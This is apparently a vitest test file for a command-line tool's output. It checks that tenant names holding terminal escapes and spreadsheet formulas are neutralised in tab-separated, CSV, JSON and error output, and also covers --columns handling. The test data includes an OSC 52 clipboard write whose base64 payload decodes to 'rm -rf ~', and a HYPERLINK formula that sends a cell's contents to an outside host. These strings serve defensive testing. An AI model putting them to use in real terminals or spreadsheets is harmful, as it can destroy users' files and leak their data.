// What the built CLI prints for a pipe or a program: tab-separated rows, CSV, JSON, --columns, and
// nothing that can drive a terminal or a spreadsheet, whatever the database holds.
import SQLite from 'better-sqlite3';
import { afterAll, describe, expect, it } from 'vitest';
import { cleanup, expectOneLineError, newWorkspace, runCli, type Workspace } from './cli.js';

afterAll(cleanup);

// A window title, a clipboard write (OSC 52), clear screen, cursor home, a C1 CSI, DEL, bidi.
const HOSTILE = 'Evil\u001b]0;owned\u0007 \u001b]52;c;cm0gLXJmIH4=\u0007\u001b[2J\u001b[H\u009b31m\u007f\u202eten\u2066';
// everything a terminal could act on, except the tab and newline that separate fields and lines
const RAW_CONTROL = /[\u0000-\u0008\u000b-\u001f\u007f-\u009f\u202a-\u202e\u2066-\u2069]/;

/** Names written straight into the database: the API may refuse them, older rows and other servers exist. */
async function workspaceWithHostileNames(): Promise<Workspace> {
  const ws = await newWorkspace();
  await ws.json(['tenants', 'create', '--slug', 'evil', '--name', 'placeholder']);
  await ws.json(['tenants', 'create', '--slug', 'formula', '--name', 'placeholder']);
  const db = new SQLite(ws.db);
  const rename = db.prepare('UPDATE tenants SET name = ? WHERE slug = ?');
  rename.run(HOSTILE, 'evil');
  rename.run('=HYPERLINK("http://x.example/?"&A1,"click")', 'formula');
  db.close();
  return ws;
}

describe('names holding terminal escapes', () => {
  it('reach no output raw: rows, records, CSV, JSON and error lines', async () => {
    const ws = await workspaceWithHostileNames();
    const visible = 'Evil\\x1b]0;owned\\x07 \\x1b]52;c;cm0gLXJmIH4=\\x07\\x1b[2J\\x1b[H\\x9b31m\\x7f\\u202eten\\u2066';

    const rows = await ws.run(['tenants', 'list', '--columns', 'slug,name']);
    expect(rows.code).toBe(0);
    expect(rows.stdout).toBe(`evil\t${visible}\nformula\t=HYPERLINK("http://x.example/?"&A1,"click")\n`);

    const record = await ws.run(['tenants', 'get', 'evil']);
    expect(record.stdout).not.toMatch(RAW_CONTROL);
    expect(record.stdout).toContain(`name\t${visible}\n`);

    const csv = await ws.run(['tenants', 'list', '--csv', '--columns', 'slug,name']);
    expect(csv.stdout).toBe(`slug,name\nevil,${visible}\nformula,"'=HYPERLINK(""http://x.example/?""&A1,""click"")"\n`);

    for (const args of [['tenants', 'list'], ['tenants', 'get', 'evil']]) {
      const json = await ws.run([...args, '--json']);
      expect(json.stdout).not.toMatch(RAW_CONTROL);
      expect(json.stdout).toContain('\\u009b31m\\u007f\\u202eten\\u2066');
      expect(JSON.stringify(JSON.parse(json.stdout))).toContain(JSON.stringify(HOSTILE));
    }

    // the API echoes the unknown ref in its message; the CLI neutralises it on the Error line
    const notFound = await ws.run(['tenants', 'get', HOSTILE]);
    expect(notFound.code).toBe(5);
    expect(notFound.stderr).not.toMatch(RAW_CONTROL);
    expect(expectOneLineError(notFound).message).toContain(visible);
    const notFoundJson = await ws.run(['tenants', 'get', HOSTILE, '--json']);
    expect(notFoundJson.stderr).not.toMatch(RAW_CONTROL);
    expect(JSON.parse(notFoundJson.stderr).error.message).toContain(HOSTILE);
  });
});

describe('--columns', () => {
  it('takes header names in any case and any field, and projects --json in that order', async () => {
    const ws = await newWorkspace();
    await ws.json(['tenants', 'create', '--slug', 'alpha', '--name', 'Alpha ISP']);
    const [alpha] = await ws.json<Record<string, unknown>[]>(['tenants', 'list', '--columns', 'Created,SLUG,reseller,contact_email']);
    expect(Object.keys(alpha!)).toEqual(['created_at', 'slug', 'reseller_slug', 'contact_email']);
    expect(alpha).toMatchObject({ slug: 'alpha', reseller_slug: null });

    const piped = await ws.run(['tenants', 'list', '--columns', 'slug,version,Status']);
    expect(piped.stdout).toBe('alpha\t1\tactive\n');
  });

  it('refuses an unknown name with exit 2 and the valid names, before any request', async () => {
    // a server that is not there: the usage error comes first
    const env = { DOTMAC_API_URL: 'http://127.0.0.1:9', DOTMAC_TOKEN: 'not-used' };
    for (const json of [[], ['--json']]) {
      const res = await runCli(['tenants', 'list', '--columns', 'slug,colour', ...json], { env });
      expect(res.code).toBe(2);
      const error = json.length ? JSON.parse(res.stderr).error : expectOneLineError(res);
      expect(error.message).toBe('unknown column "colour"');
      expect(error.hint).toBe('available columns: slug, name, status, plan, region, reseller, id, reseller_id, contact, created, updated, version');
    }
  });

  it('lists the names in each list command\'s help', async () => {
    const help = async (topic: string) => (await runCli([topic, 'list', '--help'])).stdout.replace(/\s+/g, ' ');
    expect(await help('tenants')).toContain('slug, name, status, plan, region, reseller, id, reseller_id, contact, created, updated, version');
    expect(await help('audit')).toContain('seq, at, action, role, actor, target, reason, id, target_type, tenant, request, details, prev_hash, hash');
    expect(await help('tokens')).toContain('jti, role, email, tenant, reseller, expires, revoked, label, user, created, created_by');
    expect(await help('resellers')).toContain('slug, name, territory, tier, id, created, updated');
  });
});
